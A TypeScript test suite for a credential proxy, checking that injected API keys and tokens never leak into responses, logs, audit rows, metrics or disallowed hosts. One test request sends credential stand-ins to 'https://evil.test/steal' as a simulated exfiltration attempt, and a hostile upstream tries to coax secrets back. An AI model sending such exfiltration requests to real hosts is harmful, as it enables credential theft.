import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { CanarySet } from '../helpers/canary.js';
import { startHostileUpstream, type HostileUpstream } from '../helpers/hostile-upstream.js';
import { createTestPki, type TestPki } from '../helpers/pki.js';
import { tunnelRaw } from '../helpers/tunnel-raw.js';
import { startUpstream, type EchoBody, type TestUpstream } from '../helpers/upstream.js';
import { standInOf, startWorld, type UntypedJson, type World } from '../helpers/harness/index.js';
import { closedPort } from '../helpers/ports.js';
import type { SandboxInfo } from '../../src/sdk/types.js';

/**
 * docs/contract.md#never-leak: the real value reaches no response, no host outside `hosts`, no log
 * line, no audit row, no metric, no error message and no database byte. Every auth shape goes
 * through every upstream behaviour and every rejection this file can provoke; then everything
 * the sandbox and the operator can see is searched for the canaries in every encoding.
 */
const canaries = new CanarySet();
const REAL = {
  openai: canaries.add('openai', 'sk-proj-'),
  anthropic: canaries.add('anthropic', 'sk-ant-api03-'),
  github: canaries.add('github', 'ghp_'),
  basic: canaries.add('basic'),
  apikey: canaries.add('apikey'),
  template: canaries.add('template'),
  bearer: canaries.add('bearer'),
  doomed: canaries.add('doomed'),
  rotated: canaries.add('rotated'),
  agent: canaries.add('agent', 'sk-proj-'),
  rejected: canaries.add('rejected'),
};
const CUSTOM_HOSTS = ['hostile.test', 'api.example.test', 'untrusted.test', 'down.test'];
/** Which hosts may ever see each canary (the secret's `hosts`). */
const ALLOWED_HOSTS: Record<string, string[]> = {
  openai: ['api.openai.com'],
  anthropic: ['api.anthropic.com'],
  github: ['api.github.com', 'github.com'],
  basic: CUSTOM_HOSTS,
  apikey: CUSTOM_HOSTS,
  template: CUSTOM_HOSTS,
  bearer: CUSTOM_HOSTS,
  doomed: CUSTOM_HOSTS,
  rotated: CUSTOM_HOSTS,
  agent: ['api.openai.com'],
  rejected: [],
};

const b64 = (text: string) => Buffer.from(text).toString('base64');
/** Each binding's stand-in written in its own auth shape. */
const SHAPES: Record<string, (t: string) => Record<string, string>> = {
  OPENAI_API_KEY: (t) => ({ authorization: `Bearer ${t}` }),
  ANTHROPIC_API_KEY: (t) => ({ 'x-api-key': t }),
  GITHUB_TOKEN: (t) => ({ authorization: `Bearer ${t}` }),
  BASIC_PASS: (t) => ({ authorization: `Basic ${b64(`someone:${t}`)}` }),
  PREFIXED_KEY: (t) => ({ 'x-api-key': `Key ${t}` }),
  TEMPLATED_KEY: (t) => ({ 'x-custom-auth': `token=${t};v=1` }),
  BEARER_TOKEN: (t) => ({ authorization: `Bearer ${t}` }),
};
const HOSTILE_PATHS = ['/redirect', '/cookie', '/error', '/gzip', '/split', '/base64', '/echo'];
const CUSTOM_URLS = [...HOSTILE_PATHS.map((p) => `https://hostile.test${p}`), 'https://api.example.test/echo', 'https://untrusted.test/', 'https://down.test/'];
/** Waits past upstream.headersTimeoutMs (504); these run side by side. */
const SLOW_URL = 'https://api.example.test/slow-headers?ms=4000';
const HOME_URLS: Record<string, string[]> = {
  OPENAI_API_KEY: ['https://api.openai.com/v1/models'],
  ANTHROPIC_API_KEY: ['https://api.anthropic.com/v1/messages'],
  GITHUB_TOKEN: ['https://api.github.com/user', 'https://github.com/acme/repo.git/info/refs?service=git-upload-pack'],
  BASIC_PASS: CUSTOM_URLS,
  PREFIXED_KEY: CUSTOM_URLS,
  TEMPLATED_KEY: CUSTOM_URLS,
  BEARER_TOKEN: CUSTOM_URLS,
};

let pki: TestPki;
let untrustedPki: TestPki;
let hostile: HostileUpstream;
let untrusted: TestUpstream;
let world: World;
let sandboxA: SandboxInfo;
let sandboxB: SandboxInfo;
/** Everything a sandbox client received, as text, labelled by request. */
const clientSaw: Array<[string, string]> = [];
/** Everything the operator's admin API answered. */
const adminSaw: Array<[string, string]> = [];
const reasons = new Set<string>();

before(async () => {
  pki = await createTestPki('leak-upstream');
  untrustedPki = await createTestPki('leak-untrusted');
  hostile = await startHostileUpstream(pki);
  untrusted = await startUpstream({ pki: untrustedPki });
  const deadPort = await closedPort();
  world = await startWorld({
    upstreamPki: pki,
    resolve: [
      `hostile.test:443=127.0.0.1:${hostile.port}`,
      `untrusted.test:443=127.0.0.1:${untrusted.port}`,
      `down.test:443=127.0.0.1:${deadPort}`,
      // Plain http to hostile.test must be refused before any dial; the pin keeps it off real DNS regardless.
      `hostile.test:80=127.0.0.1:${deadPort}`,
    ],
    flags: { 'upstream.headersTimeoutMs': 1500, 'proxy.maxBodyBytes': 4096, 'audit.flushIntervalMs': 50 },
  });
  const custom = (name: string, value: string, auth: unknown) => ({ name, value, auth, hosts: CUSTOM_HOSTS });
  for (const body of [
    { name: 'openai', value: REAL.openai, provider: 'openai' },
    { name: 'anthropic', value: REAL.anthropic, provider: 'anthropic' },
    { name: 'github', value: REAL.github, provider: 'github' },
    custom('basic', REAL.basic, { type: 'basic', username: 'svc' }),
    custom('apikey', REAL.apikey, { type: 'api-key', header: 'X-Api-Key', prefix: 'Key ' }),
    custom('template', REAL.template, { type: 'custom', headers: { 'X-Custom-Auth': 'token={{ value }};v=1' } }),
    custom('bearer', REAL.bearer, { type: 'bearer' }),
    custom('doomed', REAL.doomed, { type: 'bearer' }),
  ])
    await admin('POST', '/secrets', body, 201);
  sandboxA = await admin(
    'POST',
    '/sandboxes',
    {
      name: 'a',
      secrets: {
        OPENAI_API_KEY: 'openai',
        ANTHROPIC_API_KEY: 'anthropic',
        GITHUB_TOKEN: 'github',
        BASIC_PASS: 'basic',
        PREFIXED_KEY: 'apikey',
        TEMPLATED_KEY: 'template',
        BEARER_TOKEN: 'bearer',
        DOOMED: 'doomed',
      },
    },
    201,
  );
  sandboxB = await admin('POST', '/sandboxes', { name: 'b', secrets: { OPENAI_API_KEY: 'openai' } }, 201);
});

let worldClosed = false;

after(async () => {
  if (!worldClosed) await world?.close();
  await hostile?.close();
  await untrusted?.close();
  await pki?.remove();
  await untrustedPki?.remove();
});

/** Calls the admin API, keeps what it answered, and checks the status when one is given. */
async function admin(method: string, path: string, body?: unknown, status?: number, headers?: Record<string, string>): Promise<UntypedJson> {
  const res = await world.daemon.api(method, path, body, headers);
  adminSaw.push([`${method} ${path}`, JSON.stringify(res.headers) + res.text]);
  if (status !== undefined) assert.equal(res.status, status, `${method} ${path}: ${res.text}`);
  return res.json;
}

/** Through the proxy as a sandbox, with undici; everything received is kept. */
async function send(token: string | undefined, url: string, headers: Record<string, string>, init: { method?: string; body?: string } = {}) {
  const res = await world.fetchAs(token, url, { headers, ...init }).catch((err: Error) => ({
    status: 0,
    headers: {} as Record<string, string>,
    text: `${err.name}: ${err.message} ${String((err as { cause?: unknown }).cause ?? '')}`,
  }));
  clientSaw.push([`${url} ${JSON.stringify(headers)}`, JSON.stringify(res)]);
  const reason = res.headers['x-credproxy-reason'];
  if (typeof reason === 'string') reasons.add(reason);
  return res;
}

/** Raw bytes a sandbox's socket receives through a tunnel as sandbox A. */
function tunnelAsA(host: string, request: string): Promise<string> {
  return tunnelRaw(host, request, { proxyAddress: world.daemon.daemon.proxyAddress, caPem: world.caPem, accessToken: sandboxA.access_token });
}

/** Runs `tasks` a few at a time (the box has 2 cores shared with other suites). */
async function inBatches(tasks: Array<() => Promise<unknown>>, size = 8): Promise<void> {
  for (let i = 0; i < tasks.length; i += size) await Promise.all(tasks.slice(i, i + size).map((task) => task()));
}

test('every auth shape through every upstream behaviour and rejection', async () => {
  const token = sandboxA.access_token as string;
  const tasks: Array<() => Promise<unknown>> = [];
  for (const [key, shape] of Object.entries(SHAPES)) {
    const headers = shape(standInOf(sandboxA, key));
    const home = new URL(HOME_URLS[key]![0]!).host;
    if (HOME_URLS[key] === CUSTOM_URLS) tasks.unshift(() => send(token, SLOW_URL, headers));
    for (const url of HOME_URLS[key]!) tasks.push(() => send(token, url, headers));
    tasks.push(
      () => send(token, 'https://evil.test/steal', headers),
      () => send(token, `http://${home}/cleartext`, headers),
      () => send(sandboxB.access_token, `https://${home}/wrong-sandbox`, headers),
      () => send(undefined, `https://${home}/no-identity`, headers),
      () => send(token, `https://${home}/too-large`, { ...headers, 'content-type': 'text/plain' }, { method: 'POST', body: 'x'.repeat(8192) }),
    );
  }
  await inBatches(tasks);
  const cleartext = clientSaw.filter(([label]) => label.startsWith('http://'));
  assert.equal(cleartext.length, Object.keys(SHAPES).length);
  for (const [label, text] of cleartext) assert.match(text, /"x-credproxy-reason":"cleartext_injection_refused"/, label);

  // WebSocket upgrade: the echo upstream's first frame is the upgrade request's headers. The
  // client offers compression, which must not be passed on (compressed frames would hide the value).
  await Promise.all(
    ['BEARER_TOKEN', 'BASIC_PASS', 'TEMPLATED_KEY'].map(async (key) => {
      const auth = Object.entries(SHAPES[key]!(standInOf(sandboxA, key)))
        .map(([k, v]) => `${k}: ${v}\r\n`)
        .join('');
      const text = await tunnelAsA(
        'api.example.test',
        'GET /ws HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\n' +
          'Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n' +
          `Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n${auth}\r\n`,
      );
      assert.match(text, /101 Switching Protocols/);
      assert.doesNotMatch(text, /sec-websocket-extensions/i);
      // The echoed credential header is put back to the stand-in (inside Basic's base64 for BASIC_PASS).
      const basic = /Basic ([A-Za-z0-9+/=]+)/.exec(text)?.[1];
      const echoed = key === 'BASIC_PASS' ? Buffer.from(basic ?? '', 'base64').toString() : text;
      assert.ok(echoed.includes(standInOf(sandboxA, key)), `${key}: the echoed header carries the stand-in`);
      clientSaw.push([`ws ${key}`, text]);
    }),
  );
  // A raw exchange shows the whole head as the client's socket received it.
  const raw = await tunnelAsA(
    'hostile.test',
    `GET /redirect HTTP/1.1\r\nHost: hostile.test\r\nAuthorization: Bearer ${sandboxA.env.BEARER_TOKEN}\r\nConnection: close\r\n\r\n`,
  );
  assert.match(raw, /HTTP\/1\.1 302/);
  clientSaw.push(['raw redirect', raw]);

  for (const code of [
    'credential_host_mismatch',
    'cleartext_injection_refused',
    'stand_in_wrong_sandbox',
    'body_too_large',
    'upstream_unreachable',
    'upstream_tls_error',
    'upstream_timeout',
  ])
    assert.ok(reasons.has(code), `provoked ${code}: ${[...reasons]}`);
  // The real values really were injected: the hostile upstream saw them and echoed them back.
  for (const label of ['basic', 'apikey', 'template', 'bearer']) {
    assert.ok(
      hostile.seen.some((s) => canaries.find(JSON.stringify(s.headers)).includes(label)),
      `${label} reached its host`,
    );
  }
});

test('network policy, revocation, detach and rotation refusals', async () => {
  const denied = await admin('POST', '/sandboxes', { name: 'denied', secrets: { T: 'bearer' }, network: { deny_out: ['hostile.test'] } }, 201);
  const allowOnly = await admin('POST', '/sandboxes', { name: 'only', secrets: { T: 'bearer' }, network: { allow_out: ['api.openai.com'] } }, 201);
  const bearerOf = (sb: SandboxInfo, key = 'T') => ({ authorization: `Bearer ${sb.env[key]}` });
  await send(denied.access_token, 'https://hostile.test/echo', bearerOf(denied));
  await send(allowOnly.access_token, 'https://hostile.test/echo', bearerOf(allowOnly));
  await send(sandboxA.access_token, `https://127.0.0.1:${world.daemon.daemon.adminAddress.split(':')[1]}/secrets`, bearerOf(sandboxA, 'BEARER_TOKEN'));

  assert.equal((await send(sandboxA.access_token, 'https://hostile.test/echo', bearerOf(sandboxA, 'DOOMED'))).status, 200);
  await admin('DELETE', '/secrets/doomed', undefined, 204);
  assert.equal((await send(sandboxA.access_token, 'https://hostile.test/error', bearerOf(sandboxA, 'DOOMED'))).status, 503);
  await admin('PATCH', '/secrets/bearer', { value: REAL.rotated }, 200);
  assert.equal((await send(sandboxA.access_token, 'https://hostile.test/redirect', bearerOf(sandboxA, 'BEARER_TOKEN'))).status, 302);
  await admin('DELETE', `/sandboxes/${sandboxA.id}/secrets/BEARER_TOKEN`, undefined, 204);
  assert.equal((await send(sandboxA.access_token, 'https://hostile.test/echo', bearerOf(sandboxA, 'BEARER_TOKEN'))).status, 503);
  for (const code of ['credential_revoked', 'proxy_token_revoked']) assert.ok(reasons.has(code), code);
  // CONNECT-stage refusals (host_denied, host_not_allowed, internal_address_denied) end in undici errors: their text is kept too.
  assert.ok(clientSaw.filter(([, text]) => /"status":(0|403)/.test(text)).length >= 3);
});

test('admin API errors never quote a value', async () => {
  await admin('POST', '/secrets', { name: 'openai', value: REAL.rejected, provider: 'openai' }, 409);
  await admin('POST', '/secrets', { name: '9bad', value: REAL.rejected, provider: 'openai' }, 400);
  await admin('POST', '/secrets', { name: 'x1', value: REAL.rejected, auth: { type: 'bearer' }, hosts: ['not a host'] }, 400);
  await admin('POST', '/secrets', { name: 'x2', value: REAL.rejected, provider: 'nope' }, 400);
  await admin('POST', '/secrets', { name: 'x3', value: { nested: REAL.rejected }, provider: 'openai' }, 400);
  await admin('POST', '/secrets', { name: 'x4', value: REAL.rejected, provider: 'openai', extra: 1 }, 400);
  await admin(
    'POST',
    '/secrets',
    { name: 'x5', value: [REAL.rejected], auth: { type: 'custom', headers: { 'X-A': 'no template' } }, hosts: ['a.b.test'] },
    400,
  );
  await admin('POST', '/secrets', `{"name":"x6","value":"${REAL.rejected}"`, 400);
  await admin('POST', '/secrets', undefined, 400, { 'content-type': 'application/json' });
  await admin('PATCH', '/secrets/missing', { value: REAL.rejected }, 404);
  await admin('PATCH', '/secrets/openai', { value: REAL.rejected, name: 'renamed' }, 400);
  await admin('PATCH', '/secrets/openai', { value: 'x'.repeat(9000) + REAL.rejected }, 400);
  await admin('POST', '/sandboxes', { name: 's', secrets: { K: 'missing' }, env_vars: { K: REAL.rejected } }, 400);
  await admin('PATCH', '/v1/agents/bot/secrets', { secrets: { 'bad key': REAL.rejected } }, 422);
  await admin('PATCH', '/v1/agents/bot/secrets', { secrets: { OPENAI_API_KEY: { v: REAL.rejected } } }, 422);
  await admin('PATCH', '/v1/agents/bot/secrets', { secrets: { OPENAI_API_KEY: REAL.agent } }, 200);
  const run = await admin('POST', '/v1/agents/bot/run', undefined, 200);
  assert.match(run.env.OPENAI_API_KEY, /^sk-proj-/);
  assert.equal(run.env.OPENAI_API_KEY === REAL.agent, false, 'an agent gets a stand-in for a provider key');
  const agentSent = await send(run.env.HTTPS_PROXY.match(/sb:([^@]+)@/)[1], 'https://api.openai.com/v1/agent', {
    authorization: `Bearer ${run.env.OPENAI_API_KEY}`,
  });
  assert.equal(agentSent.status, 200);
  // Requests with a forged key are refused before any parsing.
  await admin('POST', '/secrets', { name: 'x7', value: REAL.rejected, provider: 'openai' }, 401, { 'x-api-key': REAL.rejected });
});

test('nothing the sandbox or the operator can see holds a real value', async () => {
  const api = world.daemon;
  // Let the audit queue write every row before reading it back and scanning the files.
  await new Promise((resolve) => setTimeout(resolve, 300));
  for (const path of [
    '/secrets',
    '/secrets/openai',
    '/secrets/github',
    '/secrets/basic/sandboxes',
    '/sandboxes',
    `/sandboxes/${sandboxA.id}`,
    '/providers',
    '/metrics',
    '/v1/agents',
    '/v1/agents/bot',
    '/v1/agents/bot/secrets',
    `/sandboxes/${sandboxA.id}/network?limit=1000`,
  ]) {
    await admin('GET', path, undefined, 200);
  }
  for (const name of ['openai', 'anthropic', 'github', 'basic', 'apikey', 'template', 'bearer']) {
    const rows = await admin('GET', `/secrets/${name}/audit?limit=1000`, undefined, 200);
    assert.ok(rows.length > 0, `audit rows for ${name}`);
  }
  const leaks = [
    ...clientSaw.map(([label, text]) => [`a client response (${label})`, canaries.find(text)] as const),
    ...adminSaw.map(([label, text]) => [`an admin API response (${label})`, canaries.find(text)] as const),
  ].filter(([, found]) => found.length > 0);
  assert.deepEqual(leaks, []);
  canaries.assertAbsent('the daemon log', api.logs.text);
  assert.ok(api.logs.entries().length > 50, 'debug logging was on');
  // The access log (one line per request and per tunnel) names requests, never what the sandbox holds.
  const access = api.logs.entries().filter((e) => e.msg === 'request' || e.msg === 'tunnel');
  assert.ok(access.filter((e) => e.msg === 'request').length > 50 && access.some((e) => e.msg === 'tunnel'), 'access lines were written');
  for (const sandbox of [sandboxA, sandboxB]) {
    assert.ok(!api.logs.text.includes(sandbox.access_token), 'an access token in the logs');
    for (const [key, value] of Object.entries(sandbox.env as Record<string, string>)) {
      if (key in SHAPES || key === 'DOOMED') assert.ok(!api.logs.text.includes(value), `the stand-in ${key} in the logs`);
    }
  }
  for (const query of ['service=git-upload-pack', 'ms=4000']) assert.ok(!api.logs.text.includes(query), `a query string in the logs: ${query}`);

  const seen: Array<[string, EchoBody]> = [
    ...world.upstream.seen.map((s) => ['echo', s] as [string, EchoBody]),
    ...world.plainUpstream.seen.map((s) => ['plain', s] as [string, EchoBody]),
    ...hostile.seen.map((s) => ['hostile', s] as [string, EchoBody]),
  ];
  for (const [where, s] of seen) {
    const host = String(s.headers.host).replace(/:\d+$/, '');
    const found = canaries.find(JSON.stringify(s)).filter((label) => !ALLOWED_HOSTS[label]!.includes(host));
    assert.deepEqual(found, [], `${where} upstream as ${host} ${s.url} received ${found}`);
  }
  const whileRunning = canaries.assertAbsentInDir(world.daemon.dir);
  assert.ok(
    whileRunning.some((f) => f.endsWith('-wal')),
    `the WAL file was scanned: ${whileRunning}`,
  );
});

test('after shutdown the data directory still holds no real value', async () => {
  await world.close();
  worldClosed = true;
  canaries.assertAbsentInDir(world.daemon.dir);
  canaries.assertAbsent('the daemon log', world.daemon.logs.text);
});
